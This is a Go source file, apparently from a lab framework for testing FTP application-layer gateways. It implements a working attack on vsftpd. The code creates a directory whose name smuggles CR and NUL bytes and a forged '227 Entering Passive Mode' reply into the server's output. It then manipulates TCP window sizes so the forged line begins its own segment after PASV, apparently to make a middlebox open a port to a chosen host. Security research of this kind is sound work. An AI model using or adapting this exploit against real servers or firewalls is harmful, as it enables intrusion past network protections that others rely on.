package attack

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"

	"github.com/ftpalg/ftpalg/deploy/lab"
)

// strangePort is the port of the client that asks a real server for a strange name. It
// lies below those that the kernel hands out.
const strangePort = 19902

// nameReply makes the server write a 227 that a client has thought out. vsftpd ends lines
// of the client at NUL, too, and puts a LF in place of one in a name, keeps a CR, and
// lists names raw. The client's window ends before that line, so that the line begins a
// segment, after PASV.
func nameReply(ctx context.Context, s *scene) (cell Cell, err error) {
	client, server := netip.AddrPortFrom(s.Client.IPv4, strangePort), netip.AddrPortFrom(s.Server.IPv4, 21)
	s.control = client
	p, err := newPuppet(ctx, s.Client, client, server)
	if err != nil {
		return cell, err
	}
	defer func() { err = errors.Join(err, p.close()) }()
	a := s.target.Addr().As4()
	line := fmt.Sprintf("227 Entering Passive Mode (%d,%d,%d,%d,%d,%d)", a[0], a[1], a[2], a[3], s.port>>8, s.port&255)
	played := func() error {
		if err := p.connect(ctx); err != nil {
			return err
		}
		for _, said := range [][2]string{
			{"", "\r\n220 "},
			{"USER " + lab.User, "\r\n331 "},
			{"PASS " + lab.Password, "\r\n230 "},
			{"MKD plain", "\r\n257 "},
			{"MKD plain/a", "\r\n257 "},
			{"MKD strange", "\r\n257 "},
			{"MKD strange/a\r\x00213 x\r\x00" + line, "\r\n257 "},
		} {
			if _, err := p.ask(ctx, said[0], said[1]); err != nil {
				return err
			}
		}
		listing, err := p.ask(ctx, "STAT plain", "\r\n213 End")
		if err != nil {
			return err
		}
		before, _, ok := strings.Cut(listing, " a\r\n") // the strange listing begins alike
		if !ok {
			return fmt.Errorf("look for a in the listing %q: %w", listing, errSilent)
		}
		// A smaller window is believed of a segment that goes beyond the last (RFC 9293,
		// section 3.10.7.4: SND.WL1), so the command has two.
		if err := p.say(ctx, "STAT "); err != nil {
			return err
		}
		p.shut, p.limit = true, p.want+uint32(len(before+" a\r\n213 x\r\n"))
		if err := p.say(ctx, "strange\r\n"); err != nil {
			return err
		}
		if _, err := p.listen(ctx, "\r\n213 x\r\n"); err != nil {
			return err
		}
		if err := p.say(ctx, "PASV\r\n"); err != nil {
			return err
		}
		p.shut = false
		if err := p.ack(); err != nil {
			return err
		}
		_, err = p.listen(ctx, line)
		return err
	}
	return s.tryAfter(ctx, played())
}
